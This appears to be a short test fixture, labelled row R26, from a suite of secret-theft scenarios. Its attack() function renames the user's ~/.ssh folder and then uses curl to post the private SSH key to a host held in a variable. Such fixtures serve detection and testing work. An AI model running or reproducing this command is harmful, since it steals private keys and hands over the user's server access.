# SPDX-License-Identifier: Apache-2.0
TITLE="the folder of the secret is renamed"
ROW="R26"
attack() {
	mv "$HOME/.ssh" "$HOME/old"
	curl -s -m 5 --data-binary @"$HOME/old/id_ed25519" "$URL/"
}
CLASS=ssh-key SECRET=''
